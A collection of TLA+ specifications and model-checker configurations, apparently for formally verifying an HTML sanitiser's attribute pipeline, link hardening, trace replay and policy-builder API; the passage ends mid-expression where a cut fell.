TraceInit == pol = Blank /\ st = St0 /\ inp = <<>> /\ out = <<>> /\ l = 1 /\ div = <<>> /\ pols = <<>> /\ wfail = FALSE /\ last = NoTag /\ pv = <<>>

Diverge == /\ div' = Append(div, l)
           /\ l' = Resync(l + 1)
           /\ UNCHANGED <<pol, st, inp, out, pols>> /\ wfail' = FALSE /\ last' = NoTag

OnReset(e) == /\ pol' = Blank /\ st' = St0 /\ inp' = <<>> /\ out' = <<>> /\ pols' = <<>>
              /\ l' = l + 1 /\ UNCHANGED div /\ wfail' = FALSE /\ last' = NoTag

\* a builder call on policy e.pid returned; e.snap is its snapshot, e.others the snapshots of the other
\* live policies of the session (which the call must not have touched)
OnBuild(e) ==
  LET cur == IF e.pid \in DOMAIN pols THEN pols[e.pid] ELSE Blank
      p2  == Apply(e.call, cur)
      real == PolOfJson(e.snap)
      othersOK == \A k \in DOMAIN e.others : e.others[k].pid \in DOMAIN pols /\ PolOfJson(e.others[k].snap) = pols[e.others[k].pid]
  IN  /\ pols' = Put(pols, e.pid, real)          \* on a mismatch continue with the real policy
      /\ div' = IF p2 = real /\ othersOK THEN div ELSE Append(div, l)
      /\ l' = l + 1 /\ UNCHANGED <<pol, st, inp, out, wfail, last>>

OnCall(e) == /\ pol' = InitP(pols[e.pid]) /\ pols' = Put(pols, e.pid, InitP(pols[e.pid]))
             /\ st' = St0 /\ inp' = <<>> /\ out' = <<>>
             /\ l' = l + 1 /\ UNCHANGED div /\ wfail' = FALSE /\ last' = NoTag

TokGood(e) ==
  LET after == IF e.called THEN e.after ELSE <<>>
      b     == Branch(pol, st, e.tok, after)
  IN  /\ Logged(st) = StOf(e)
      /\ ~wfail                                   \* after a failed write the loop has returned: no further token
      /\ e.called = (e.tok.t \in {"start", "self"} /\ e.tok.a # <<>> /\ ~Blocked(pol, e.tok.n) /\ Known(pol, e.tok.n))
      /\ WritesMatch(e.writes, EmitB(pol, e.tok, after, b))
      /\ (CheckAttrs /\ e.called) => SanitizeAttrs(pol, e.tok.n, e.tok.a) = e.after

OnTok(e) ==
  IF TokGood(e)
  THEN LET after == IF e.called THEN e.after ELSE <<>>
           b     == Branch(pol, st, e.tok, after)
       IN  /\ st' = StepB(pol, st, e.tok, b)
           /\ inp' = Append(inp, e.tok)
           /\ out' = out \o EmitB(pol, e.tok, after, b)
           /\ wfail' = e.werr                   \* the last write of this step failed (BM_IO: status "werr")
           /\ last' = IF e.called THEN [n |-> e.tok.n, as |-> e.tok.a, res |-> e.after] ELSE last
           /\ l' = l + 1 /\ UNCHANGED <<pol, div, pols>>
  ELSE Diverge

OnRet(e) ==
  \* the call reports an error exactly when a write failed or the source failed (BM_IO: FailReported)
  IF Logged(st) = StOf(e) /\ ~e.panic /\ e.ended /\ (e.err = (wfail \/ e.rerr))
  THEN l' = l + 1 /\ UNCHANGED <<pol, st, inp, out, div, pols, wfail, last>>
  ELSE Diverge

\* the listed properties, evaluated on the recorded execution itself (real tokens read, real tokens written,
\* real attribute lists): which of them fail in the state (p, i, o, lt)
Checks(p, i, o, lt) ==
  LET tag == CheckAttrs /\ lt.n # "" /\ ~p.unsafe
  IN << <<"C01", I01(p, o)>>, <<"C05", I05(p, o) /\ I05body(p, i, o)>>, <<"C02", I02bare(p, o)>>,
        <<"C06", CheckAttrs => I06(p, i, o)>>, <<"C07", CheckAttrs => I07(p, i, o)>>,
        <<"C08", CheckAttrs => I08(p, i, o)>>, <<"C09", CheckAttrs => I09(p, i, o)>>,
        <<"C02", tag => I02(p, lt.n, lt.as, lt.res)>>, <<"C03", tag => I03(p, lt.n, lt.res)>>,
        <<"C10", tag => I10(p, lt.n, lt.res)>>, <<"C11", tag => I11(p, lt.n, lt.res)>>,
        <<"C12", tag => I12(p, lt.n, lt.res)>>, <<"C07", tag => I07attrs(p, lt.n, lt.as, lt.res)>> >>
Failed(p, i, o, lt) == LET c == Checks(p, i, o, lt)
                           f == SelectSeq(c, LAMBDA x : ~x[2])
                       IN  [k \in DOMAIN f |-> <<l, f[k][1]>>]

TraceStep ==
  /\ l <= Len(Tr)
  /\ LET e == Tr[l]
     IN  CASE e.ev = "reset" -> OnReset(e)
           [] e.ev = "build" -> OnBuild(e)
           [] e.ev = "call"  -> OnCall(e)
           [] e.ev = "tok"   -> OnTok(e)
           [] e.ev = "ret"   -> OnRet(e)

\* a property failure is recorded (not fatal: the rest of the trace is still validated); one entry per line
TraceNext == TraceStep /\ pv' = pv \o Failed(pol', inp', out', last')

TraceSpec == TraceInit /\ [][TraceNext]_tvars

\* printed once, in the final state; the runner reads it
TraceEnd == l = Len(Tr) + 1 => PrintT("TRACE-END " \o ToString(Len(Tr)) \o " " \o ToJson(div) \o " PV " \o ToJson(pv))

TStack == StackInv(pol, st)
=============================================================================
