SPECIFICATION Spec
CONSTANT MaxLen = 3
CONSTANT Mode = "hist"
INVARIANT EmitHist
INVARIANT Inv01
INVARIANT Inv05
INVARIANT Inv02b
INVARIANT InvStk
INVARIANT Inv06
INVARIANT Inv08
INVARIANT Inv09
INVARIANT Inv07
INVARIANT Inv20
PROPERTY Step01
CHECK_DEADLOCK FALSE
