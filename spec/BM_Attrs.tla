------------------------------ MODULE BM_Attrs ------------------------------
(***************************************************************************)
(* The attribute pipeline of one tag: five stages, each mirroring one      *)
(* block of sanitizeAttrs, plus the inline-style filter.  Attributes are   *)
(* sequences of [k, v] records (k the lower-cased name, v the HTML-decoded *)
(* value).  Deterministic: SanitizeAttrs(p, el, as) is a function.         *)
(***************************************************************************)
EXTENDS BM_Policy

Attr(k, v) == [k |-> k, v |-> v]

---------------------------------------------------------------------------
\* which rules apply to an element

Explicit(p, n) == n \in DOMAIN p.elAttrs
PatsFor(p, n)  == {pat \in DOMAIN p.patAttrs : PatMatch(pat, n)}
Known(p, n)    == Explicit(p, n) \/ PatsFor(p, n) # {}

MergeTbl(S) == [k \in UNION {DOMAIN r : r \in S} |-> UNION {Get(r, k, {}) : r \in S}]

\* an explicitly named element shadows element patterns (README: "explicit ... takes precedence")
Rules(p, n) == IF Explicit(p, n) THEN p.elAttrs[n]
               ELSE MergeTbl({p.patAttrs[pat] : pat \in PatsFor(p, n)})

BareOK(p, n) == n \in p.bareEl \/ \E pat \in p.barePat : PatMatch(pat, n)

StylePatsFor(p, n) == {pat \in DOMAIN p.patStyles : PatMatch(pat, n)}
OwnStyles(p, n)    == Get(p.elStyles, n, EmptyFn)
StyleRules(p, n)   == IF DOMAIN OwnStyles(p, n) # {} THEN OwnStyles(p, n)
                      ELSE MergeTbl({p.patStyles[pat] : pat \in StylePatsFor(p, n)})
HasStyleRules(p, n) == \/ DOMAIN p.globalStyles # {}
                       \/ DOMAIN OwnStyles(p, n) # {}
                       \/ \E pat \in StylePatsFor(p, n) : DOMAIN p.patStyles[pat] # {}

---------------------------------------------------------------------------
\* inline style filter (C10)

StyleAccepts(p, n, d) ==
  \/ \E id \in Get(StyleRules(p, n), d.lp, {}) : SM(id, d.dv)
  \/ \E id \in Get(p.globalStyles, d.lp, {}) : SM(id, d.dv)

RECURSIVE JoinDecls(_)
JoinDecls(ds) ==
  IF ds = <<>> THEN ""
  ELSE IF Len(ds) = 1 THEN ds[1].p \o ": " \o ds[1].v
  ELSE ds[1].p \o ": " \o ds[1].v \o "; " \o JoinDecls(Tail(ds))

KeptDecls(p, n, v) == IF Css(v).err THEN <<>>
                      ELSE SelectSeq(Css(v).decls, LAMBDA d : StyleAccepts(p, n, d))

FilterStyle(p, n, v) == JoinDecls(KeptDecls(p, n, v))

---------------------------------------------------------------------------
\* stage 1: allowlist

AcceptedBy(ids, v) == \E id \in ids : M(id, v)

Stage1Keep(p, n, a) ==
  \/ p.dataAttrs /\ IsData(a.k)
  \/ IF a.k = "style" /\ HasStyleRules(p, n)
     THEN FilterStyle(p, n, a.v) # ""
     ELSE \/ AcceptedBy(Get(Rules(p, n), a.k, {}), a.v)
          \/ AcceptedBy(Get(p.globalAttrs, a.k, {}), a.v)

Stage1Val(p, n, a) ==
  IF (p.dataAttrs /\ IsData(a.k)) \/ ~(a.k = "style" /\ HasStyleRules(p, n)) THEN a
  ELSE Attr("style", FilterStyle(p, n, a.v))

Stage1(p, n, as) == LET kept == SelectSeq(as, LAMBDA a : Stage1Keep(p, n, a))
                    IN  [i \in DOMAIN kept |-> Stage1Val(p, n, kept[i])]

---------------------------------------------------------------------------
\* stage 2: URL validation (C03).  UrlPos is the set of positions the property names.

HrefEls == {"a", "area", "base", "link"}
CiteEls == {"blockquote", "del", "ins", "q"}
SrcEls  == {"audio", "embed", "iframe", "img", "input", "script", "source", "track", "video"}
Linkable(n) == n \in HrefEls \cup CiteEls \cup SrcEls
UrlPos(n, k) == \/ n \in HrefEls /\ k = "href"
                \/ n \in CiteEls /\ k = "cite"
                \/ n \in SrcEls  /\ k = "src"

SchemeOK(p, v) ==
  LET s == Url(v).scheme
  IN  IF s \in DOMAIN p.schemes
      THEN p.schemes[s] = {} \/ \E fid \in p.schemes[s] : Custom(fid, v)
      ELSE \E r \in p.schemePats : F.schemepat[r][s]

ValidURL(p, v) ==
  LET u == Url(v)
  IN  /\ ~(u.ws /\ ~u.data)
      /\ ~u.perr
      /\ IF u.scheme # "" THEN SchemeOK(p, v)
         ELSE p.relative /\ ~u.empty

Stage2Val(p, n, a) ==
  IF ~UrlPos(n, a.k) THEN a
  ELSE IF n \in SrcEls /\ p.rewriter # "" THEN Attr(a.k, Rewrite(p.rewriter, Url(a.v).norm))
  ELSE Attr(a.k, Url(a.v).norm)

Stage2(p, n, as) ==
  IF ~Linkable(n) \/ ~p.parseable THEN as
  ELSE LET kept == SelectSeq(as, LAMBDA a : UrlPos(n, a.k) => ValidURL(p, a.v))
       IN  [i \in DOMAIN kept |-> Stage2Val(p, n, kept[i])]

---------------------------------------------------------------------------
\* stage 3: link hardening (C11)

AnyLinkOption(p) == p.nofollow \/ p.nofollowFQ \/ p.noreferrer \/ p.noreferrerFQ \/ p.targetBlank

HasTok(v, w) == \E i \in DOMAIN LFields(v) : LFields(v)[i] = w

\* pass 1, left to right; tb = "a target=_blank has been seen or made"
RECURSIVE Pass1(_, _, _, _, _, _)
Pass1(as, n, addNF, addNR, addTB, tb) ==
  IF as = <<>> THEN [out |-> <<>>, tb |-> tb]
  ELSE LET a   == Head(as)
           v1  == IF a.k = "rel" /\ addNF /\ ~HasTok(a.v, "nofollow") THEN a.v \o " nofollow" ELSE a.v
           v2  == IF a.k = "rel" /\ addNR /\ ~HasTok(a.v, "noreferrer") THEN v1 \o " noreferrer" ELSE v1
           isT == n = "a" /\ a.k = "target"
           tb1 == tb \/ (isT /\ a.v = "_blank")
           rw  == isT /\ addTB /\ ~tb1
           b   == IF rw THEN Attr("target", "_blank") ELSE Attr(a.k, v2)
           r   == Pass1(Tail(as), n, addNF, addNR, addTB, tb1 \/ rw)
       IN  [out |-> <<b>> \o r.out, tb |-> r.tb]

Stage3(p, n, as) ==
  IF as = <<>> \/ ~AnyLinkOption(p) \/ n \notin HrefEls \/ ~\E i \in DOMAIN as : as[i].k = "href" THEN as
  ELSE LET ext   == \E i \in DOMAIN as : as[i].k = "href" /\ HasHost(as[i].v)
           addNF == p.nofollow   \/ (ext /\ p.nofollowFQ)
           addNR == p.noreferrer \/ (ext /\ p.noreferrerFQ)
           addTB == ext /\ p.targetBlank
           p1    == Pass1(as, n, addNF, addNR, addTB, FALSE)
           relSeen == (addNF \/ addNR) /\ \E i \in DOMAIN as : as[i].k = "rel"
           newRel == IF addNF /\ addNR THEN "nofollow noreferrer"
                     ELSE IF addNF THEN "nofollow" ELSE "noreferrer"
           as2   == IF (addNF \/ addNR) /\ ~relSeen THEN Append(p1.out, Attr("rel", newRel)) ELSE p1.out
           as3   == IF n = "a" /\ addTB /\ ~p1.tb THEN Append(as2, Attr("target", "_blank")) ELSE as2
           tb    == p1.tb \/ (n = "a" /\ addTB)
           \* pass 2: rel attributes at positions <= Len(as) are input attributes (pass 1 keeps positions);
           \* a rel beyond that is the one appended above, which never contains noopener
           HasNoOpener(i) == i <= Len(as) /\ HasTok(as[i].v, "noopener")
       IN  IF ~tb THEN as3
           ELSE IF \E i \in DOMAIN as3 : as3[i].k = "rel"
                THEN [i \in DOMAIN as3 |-> IF as3[i].k = "rel" /\ ~HasNoOpener(i)
                                           THEN Attr("rel", as3[i].v \o " noopener") ELSE as3[i]]
                ELSE Append(as3, Attr("rel", "noopener"))

---------------------------------------------------------------------------
\* stage 4: crossorigin; stage 5: iframe sandbox (C12)

CrossEls == {"audio", "img", "link", "script", "video"}

Stage4(p, n, as) ==
  IF ~p.crossorigin \/ as = <<>> \/ n \notin CrossEls THEN as
  ELSE IF \E i \in DOMAIN as : as[i].k = "crossorigin"
       THEN [i \in DOMAIN as |-> IF as[i].k = "crossorigin" THEN Attr("crossorigin", "anonymous") ELSE as[i]]
       ELSE Append(as, Attr("crossorigin", "anonymous"))

RECURSIVE FilterToks(_, _, _)
FilterToks(toks, allowed, seen) ==
  IF toks = <<>> THEN <<>>
  ELSE IF Head(toks) \in allowed /\ Head(toks) \notin seen
       THEN <<Head(toks)>> \o FilterToks(Tail(toks), allowed, seen \cup {Head(toks)})
       ELSE FilterToks(Tail(toks), allowed, seen)

RECURSIVE JoinSp(_)
JoinSp(toks) == IF toks = <<>> THEN ""
                ELSE IF Len(toks) = 1 THEN toks[1]
                ELSE toks[1] \o " " \o JoinSp(Tail(toks))

Stage5(p, n, as) ==
  IF ~p.sandboxOn \/ n # "iframe" THEN as
  ELSE IF \E i \in DOMAIN as : as[i].k = "sandbox"
       THEN [i \in DOMAIN as |-> IF as[i].k = "sandbox"
                                 THEN Attr("sandbox", JoinSp(FilterToks(Fields(as[i].v), p.sandbox, {})))
                                 ELSE as[i]]
       ELSE Append(as, Attr("sandbox", ""))

---------------------------------------------------------------------------
SanitizeAttrs(p, n, as) ==
  IF as = <<>> THEN as
  ELSE LET s1 == Stage1(p, n, as)
       IN  IF s1 = <<>> THEN s1
           ELSE Stage5(p, n, Stage4(p, n, Stage3(p, n, Stage2(p, n, s1))))

---------------------------------------------------------------------------
\* attributes the policy instructs the sanitiser to add or force
Forced(p, n, a) ==
  \/ a.k = "rel"    /\ AnyLinkOption(p) /\ n \in HrefEls
  \/ a.k = "target" /\ p.targetBlank /\ n = "a" /\ a.v = "_blank"
  \/ a.k = "crossorigin" /\ p.crossorigin /\ n \in CrossEls
  \/ a.k = "sandbox" /\ p.sandboxOn /\ n = "iframe"
=============================================================================
