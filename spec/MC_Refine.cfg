SPECIFICATION SpecR
CONSTANT MaxLen = 12
CONSTANT Mode = "check"
CONSTANT RID = 1
VIEW View
CONSTRAINT Bound
INVARIANT InvStk
INVARIANT AbsInv
PROPERTY Refines
CHECK_DEADLOCK FALSE
