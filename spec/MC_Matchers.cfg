SPECIFICATION Spec
CONSTANT MaxLen = 4
CONSTANT Subst = 1
CONSTANT Emit = TRUE
INVARIANT EmitCase
INVARIANT InvClosed
INVARIANT InvNoHostile
INVARIANT InvExamples
CHECK_DEADLOCK FALSE
