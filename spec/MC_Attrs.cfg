SPECIFICATION Spec
CONSTANT MaxAttrs = 2
CONSTANT Emit = TRUE
INVARIANT EmitCase
INVARIANT Inv02
INVARIANT Inv03
INVARIANT Inv10
INVARIANT Inv11
INVARIANT Inv12
INVARIANT Inv07
INVARIANT Inv20
CHECK_DEADLOCK FALSE
