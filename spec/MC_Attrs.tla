------------------------------ MODULE MC_Attrs ------------------------------
(***************************************************************************)
(* Bounded machine for the attribute pipeline of one tag: a policy from a  *)
(* family of recipes, an element, and an attribute list grown one          *)
(* attribute at a time from the element's alphabet (so every list up to    *)
(* MaxAttrs, in every order and multiplicity, is a state).  Each state is  *)
(* emitted as a CASE (recipe, element, attributes, predicted result) and   *)
(* replayed into the real code as the tag <el attrs>.                      *)
(***************************************************************************)
EXTENDS BM_AttrProps, IOUtils, TLCExt

FamFile   == IF "FAM" \in DOMAIN IOEnv THEN IOEnv.FAM ELSE "fam_attrs.json"
FactsFile == IF "FACTS" \in DOMAIN IOEnv THEN IOEnv.FACTS ELSE "facts.json"
ASSUME TLCSet(43, JsonDeserialize(FamFile))
ASSUME TLCGet(43) = TLCGet(43)
ASSUME TLCSet(42, JsonDeserialize(FactsFile))
ASSUME TLCGet(42) = TLCGet(42)
Fam == TLCGet(43)

CONSTANTS MaxAttrs, Emit

VARIABLES rid, pol, el, as
vars == <<rid, pol, el, as>>

Recipes == Fam.recipes
Els     == DOMAIN Fam.attrs           \* element name -> sequence of [k, v]

Init == \E r \in DOMAIN Recipes, n \in Els :
           rid = r /\ pol = Build(Recipes[r]) /\ el = n /\ as = <<>>

Next == /\ Len(as) < MaxAttrs
        /\ \E i \in DOMAIN Fam.attrs[el] : as' = Append(as, Fam.attrs[el][i])
        /\ UNCHANGED <<rid, pol, el>>

Spec == Init /\ [][Next]_vars

Res == SanitizeAttrs(pol, el, as)

EmitCase == Emit => PrintT(<<"CASE", ToJson([rid |-> rid, el |-> el, as |-> as, res |-> Res, known |-> Known(pol, el), bare |-> BareOK(pol, el)])>>)

Inv02 == Known(pol, el) => I02(pol, el, as, Res)
Inv03 == Known(pol, el) => I03(pol, el, Res)
Inv10 == Known(pol, el) => I10(pol, el, Res)
Inv11 == Known(pol, el) => I11(pol, el, Res)
Inv12 == Known(pol, el) => I12(pol, el, Res)
Inv07 == Known(pol, el) => I07attrs(pol, el, as, Res) /\ AnyOf(pol, el, as)
Inv20 == Known(pol, el) => I20attrs(pol, el, Res)
=============================================================================
