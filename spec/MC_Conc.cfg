SPECIFICATION Spec
CONSTANT K = 2
CONSTANT Emit = TRUE
INVARIANT EmitCase
INVARIANT Deterministic
INVARIANT NoCarryOver
INVARIANT NoPolicyWrite
PROPERTY SharedIsReadOnly
CHECK_DEADLOCK FALSE
