SPECIFICATION Spec
CONSTANT K = 2
CONSTANT Emit = TRUE
INVARIANT EmitCase
INVARIANT Deterministic
INVARIANT NoCarryOver
INVARIANT NoPolicyWrite
PROPERTY SharedIsReadOnly
PROPERTY Termination
CHECK_DEADLOCK FALSE
