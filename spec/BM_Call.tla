------------------------------- MODULE BM_Call -------------------------------
(***************************************************************************)
(* One Sanitize* call as a state machine: the policy of the call, the loop *)
(* state, and the histories of tokens read and tokens written.             *)
(***************************************************************************)
EXTENDS BM_Props


VARIABLES pol,           \* the policy of the call (a policy record)
          st, inp, out
svars == <<pol, st, inp, out>>

SInit(p) == pol = p /\ st = St0 /\ inp = <<>> /\ out = <<>>

Feed(tok) ==
  /\ inp' = Append(inp, tok)
  /\ st'  = Step(pol, st, tok)
  /\ out' = out \o Emitted(pol, st, tok)
  /\ UNCHANGED pol

FeedAs(tok, b) == Branch(pol, st, tok, After(pol, tok)) = b /\ Feed(tok)

=============================================================================
