---------------------------- MODULE BM_AttrProps ----------------------------
(***************************************************************************)
(* The attribute properties (C02, C03, C10, C11, C12) as predicates over   *)
(* one tag: policy p, element n, attributes read `as`, attributes emitted  *)
(* `res`.  The predicates are stated with the ORACLE facts (how a browser  *)
(* reads a URL, how it splits a style attribute) where the property speaks *)
(* about the browser, not with the facts the pipeline itself consults.     *)
(***************************************************************************)
EXTENDS BM_Attrs

\* --- oracle facts ---------------------------------------------------------
\* how a browser classifies a URL attribute value: [kind |-> "scheme"|"relative"|"empty", scheme |-> s]
UrlW(v) == F.urlw[v]
\* scheme pattern r matches scheme s
SchemePatMatch(r, s) == F.schemepat[r][s]
\* the declarations a browser finds in a style attribute value: << [lp, dv] ... >>
CssW(v) == F.cssw[v]

InSeq(x, s) == \E i \in DOMAIN s : s[i] = x

\* --- C02 --------------------------------------------------------------------
RuleAccepts(p, n, k, v) == \/ AcceptedBy(Get(Rules(p, n), k, {}), v)
                           \/ AcceptedBy(Get(p.globalAttrs, k, {}), v)

\* a value only the sanitiser itself writes
SanitiserMade(a) ==
  \/ a.k = "rel" /\ a.v \in DOMAIN F.lfields /\ SetOf(F.lfields[a.v]) \subseteq {"nofollow", "noreferrer", "noopener"}
  \/ a.k = "target" /\ a.v = "_blank"
  \/ a.k = "crossorigin" /\ a.v = "anonymous"
  \/ a.k = "sandbox" /\ a.v = ""

\* an emitted attribute is justified by an input attribute of the same name whose (HTML-decoded,
\* pre-rewrite) value some rule accepts; the emitted value is that value, or its re-serialisation
\* when the position is a URL position, or a value the sanitiser is instructed to force
Justified(p, n, as, a) ==
  \/ \E i \in DOMAIN as :
        /\ as[i].k = a.k
        /\ RuleAccepts(p, n, a.k, as[i].v)
        /\ \/ a.v = as[i].v
           \/ UrlPos(n, a.k) /\ p.parseable
           \/ Forced(p, n, a)
  \/ p.dataAttrs /\ IsData(a.k) /\ InSeq(a, as)
  \/ a.k = "style" /\ HasStyleRules(p, n) /\ \E i \in DOMAIN as : as[i].k = "style"
  \/ Forced(p, n, a) /\ SanitiserMade(a)                          \* added by the sanitiser

I02(p, n, as, res) == \A i \in DOMAIN res : Justified(p, n, as, res[i])

\* --- C07 (one tag): an attribute the policy allows as it stands ---------------------------
StyleCanon(p, n, v) == /\ ~Css(v).err /\ Css(v).decls # <<>>
                       /\ KeptDecls(p, n, v) = Css(v).decls
                       /\ FilterStyle(p, n, v) = v

AttrConf(p, n, a) ==
  IF p.dataAttrs /\ IsData(a.k) THEN TRUE
  ELSE IF a.k = "style" /\ HasStyleRules(p, n) THEN StyleCanon(p, n, a.v)
  ELSE /\ RuleAccepts(p, n, a.k, a.v)
       /\ (UrlPos(n, a.k) /\ p.parseable) =>
             (ValidURL(p, a.v) /\ Url(a.v).norm = a.v /\ ~(n \in SrcEls /\ p.rewriter # ""))

NoDupKeys(as) == \A i, j \in DOMAIN as : as[i].k = as[j].k => i = j

\* attributes the sanitiser is instructed to add or rewrite are left out of the comparison
StripForced(p, n, as) == SelectSeq(as, LAMBDA a : ~(Forced(p, n, a) \/ (a.k = "target" /\ p.targetBlank /\ n = "a")))

\* conforming attributes pass the pipeline unchanged except for forced attributes
I07attrs(p, n, as, res) ==
  (as # <<>> /\ NoDupKeys(as) /\ \A i \in DOMAIN as : AttrConf(p, n, as[i])) =>
      StripForced(p, n, res) = StripForced(p, n, as)

\* rules are additive: a value accepted by any one of the rules covering the attribute is kept by the allowlist stage
AnyOf(p, n, as) == \A i \in DOMAIN as :
    (~(as[i].k = "style" /\ HasStyleRules(p, n)) /\ RuleAccepts(p, n, as[i].k, as[i].v)) => InSeq(as[i], Stage1(p, n, as))

\* --- C20 (one tag): the pipeline is idempotent on its own output for policies in the class -------
RewrittenKeys == {"href", "cite", "src", "rel", "target", "crossorigin", "sandbox"}
OnlyAny(row) == \A k \in DOMAIN row : k \in RewrittenKeys => row[k] \subseteq {AnyId}
RawNames == {"iframe", "noembed", "noframes", "noscript", "plaintext", "script", "style", "textarea", "title", "xmp"}
InClass20(p) == /\ ~p.unsafe /\ ~p.comments /\ p.rewriter = ""
                /\ \A n \in RawNames : ~Known(p, n)
                /\ \A el \in DOMAIN p.elAttrs : OnlyAny(p.elAttrs[el])
                /\ \A pat \in DOMAIN p.patAttrs : OnlyAny(p.patAttrs[pat])
                /\ OnlyAny(p.globalAttrs)
I20attrs(p, n, res) == (InClass20(p) /\ res # <<>>) => SanitizeAttrs(p, n, res) = res

\* --- C03 --------------------------------------------------------------------
SchemeAllowed(p, s) == s \in DOMAIN p.schemes \/ \E r \in p.schemePats : SchemePatMatch(r, s)

I03(p, n, res) ==
  p.parseable => \A i \in DOMAIN res : UrlPos(n, res[i].k) =>
     LET w == UrlW(res[i].v)
     IN  CASE w.kind = "scheme"   -> SchemeAllowed(p, w.scheme) \/ (n \in SrcEls /\ p.rewriter # "")
           [] w.kind = "relative" -> p.relative \/ (n \in SrcEls /\ p.rewriter # "")
           [] OTHER -> FALSE

\* --- C11 --------------------------------------------------------------------
RelToks(v) == IF v \in DOMAIN F.lfields THEN SetOf(F.lfields[v]) ELSE {"?"}
HasHref(res) == \E i \in DOMAIN res : res[i].k = "href"
ExtHref(res) == \E i \in DOMAIN res : res[i].k = "href" /\ HasHost(res[i].v)
FirstOf(res, k) == LET S == {i \in DOMAIN res : res[i].k = k} IN res[CHOOSE i \in S : \A j \in S : i <= j]
HasAttr(res, k) == \E i \in DOMAIN res : res[i].k = k

I11(p, n, res) ==
  (n \in {"a", "area", "link"} /\ res # <<>> /\ HasHref(res)) =>
    LET needNF == p.nofollow \/ (p.nofollowFQ /\ ExtHref(res))
        needNR == p.noreferrer \/ (p.noreferrerFQ /\ ExtHref(res))
        needTB == n = "a" /\ p.targetBlank /\ ExtHref(res)
        blank  == n = "a" /\ HasAttr(res, "target") /\ FirstOf(res, "target").v = "_blank"
    IN  /\ needNF => HasAttr(res, "rel") /\ "nofollow" \in RelToks(FirstOf(res, "rel").v)
        /\ needNR => HasAttr(res, "rel") /\ "noreferrer" \in RelToks(FirstOf(res, "rel").v)
        /\ needTB => blank
        /\ (AnyLinkOption(p) /\ blank) => HasAttr(res, "rel") /\ "noopener" \in RelToks(FirstOf(res, "rel").v)

\* --- C12 --------------------------------------------------------------------
RECURSIVE NoDup(_)
NoDup(s) == IF Len(s) < 2 THEN TRUE ELSE ~InSeq(Head(s), Tail(s)) /\ NoDup(Tail(s))

I12(p, n, res) ==
  /\ (p.crossorigin /\ n \in CrossEls /\ res # <<>>) =>
        /\ HasAttr(res, "crossorigin")
        /\ \A i \in DOMAIN res : res[i].k = "crossorigin" => res[i].v = "anonymous"
  /\ (p.sandboxOn /\ n = "iframe" /\ res # <<>>) =>
        /\ HasAttr(res, "sandbox")
        /\ \A i \in DOMAIN res : res[i].k = "sandbox" =>
              LET toks == Fields(res[i].v) IN SetOf(toks) \subseteq p.sandbox /\ NoDup(toks)

\* --- C10 --------------------------------------------------------------------
\* every declaration a browser finds in the emitted style attribute has an allowlisted property
\* and a browser-decoded value some registered matcher accepts
I10(p, n, res) ==
  HasStyleRules(p, n) => \A i \in DOMAIN res : res[i].k = "style" =>
     \A j \in DOMAIN CssW(res[i].v) :
        LET d == CssW(res[i].v)[j]
        IN  \/ \E id \in Get(StyleRules(p, n), d.lp, {}) : SM(id, d.dv)
            \/ \E id \in Get(p.globalStyles, d.lp, {}) : SM(id, d.dv)
=============================================================================
