SPECIFICATION Spec
CONSTANT N = 3
CONSTANT NF = 2
CONSTANT FamN = 8
CONSTANT FamNF = 3
CONSTANT Emit = TRUE
INVARIANT EmitCase
INVARIANT InvCorrect
INVARIANT InvPolynomial
CHECK_DEADLOCK FALSE
