SPECIFICATION Spec
CONSTANT MaxLen = 12
CONSTANT Mode = "cover"
VIEW View
CONSTRAINT Bound
ACTION_CONSTRAINT EmitCover
INVARIANT InvStk
PROPERTY Step01
CHECK_DEADLOCK FALSE
