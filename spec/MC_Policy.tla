------------------------------ MODULE MC_Policy ------------------------------
(***************************************************************************)
(* The builder API as a state machine over two policy instances.  Each     *)
(* step applies one call of a bounded call alphabet to one instance.  The  *)
(* history of calls is kept so that every maximal history can be emitted   *)
(* and replayed on the real API (snapshot after each call compared with    *)
(* the predicted policy; histories that reach the same abstract policy     *)
(* must give real policies that behave identically).                       *)
(***************************************************************************)
EXTENDS BM_Policy, IOUtils, TLCExt

FamFile   == IF "FAM" \in DOMAIN IOEnv THEN IOEnv.FAM ELSE "fam_policy.json"
FactsFile == IF "FACTS" \in DOMAIN IOEnv THEN IOEnv.FACTS ELSE "facts.json"
ASSUME TLCSet(43, JsonDeserialize(FamFile))
ASSUME TLCGet(43) = TLCGet(43)
ASSUME TLCSet(42, JsonDeserialize(FactsFile))
ASSUME TLCGet(42) = TLCGet(42)
Fam == TLCGet(43)

CONSTANTS MaxLen, Emit,
          AlgDepth     \* the algebraic properties (Commute, Idempotent, CaseBlind) are evaluated from every policy reached by at most AlgDepth calls

Inst == {1, 2}
CtorPairs == SetOf(Fam.ctorpairs)   \* pairs of constructor calls (instance 1, instance 2)
Calls == SetOf(Fam.calls)       \* the other builder calls

VARIABLES pols,    \* [Inst -> policy]
          hist     \* sequence of [i, c]
vars == <<pols, hist>>

Init == \E pr \in CtorPairs :
          /\ pols = (1 :> Apply(pr[1], Blank)) @@ (2 :> Apply(pr[2], Blank))
          /\ hist = <<[i |-> 1, c |-> pr[1]], [i |-> 2, c |-> pr[2]]>>

Do(i, c) == /\ pols' = [pols EXCEPT ![i] = Apply(c, pols[i])]
            /\ hist' = Append(hist, [i |-> i, c |-> c])

Next == Len(hist) < MaxLen + 2 /\ \E i \in Inst, c \in Calls : Do(i, c)

Spec == Init /\ [][Next]_vars

EmitCase == (Emit /\ Len(hist) = MaxLen + 2) =>
              PrintT(<<"CASE", ToJson([hist |-> hist, p1 |-> pols[1], p2 |-> pols[2]])>>)

\* ---- properties (C17) ----
LastCall == hist[Len(hist)]

\* building or extending one policy never changes another
Independent == [][\A i \in Inst : (\E c \in Calls : Do(i, c)) => \A j \in Inst \ {i} : pols'[j] = pols[j]]_vars

\* rule calls only ever add
RulesAccumulate == [][\A i \in Inst : IsRuleCall(hist'[Len(hist')].c) /\ hist'[Len(hist')].i = i => RulesLeq(pols[i], pols'[i])]_vars

\* any two rule calls commute, from every reachable policy
RuleCallSet == {c \in Calls : IsRuleCall(c)}
Shallow == Len(hist) <= AlgDepth + 2
Commute == Shallow => \A i \in Inst : \A a, b \in RuleCallSet : Apply(b, Apply(a, pols[i])) = Apply(a, Apply(b, pols[i]))

\* rule calls are idempotent (a repeated call adds nothing)
Idempotent == Shallow => \A i \in Inst : \A a \in RuleCallSet : Apply(a, Apply(a, pols[i])) = Apply(a, pols[i])

\* letter case of element, attribute, property and scheme names does not matter
LowerSeq(s) == [k \in DOMAIN s |-> Lower(s[k])]
LowerCall(c) == [c EXCEPT !.names = LowerSeq(@), !.attrs = LowerSeq(@), !.els = LowerSeq(@), !.props = LowerSeq(@),
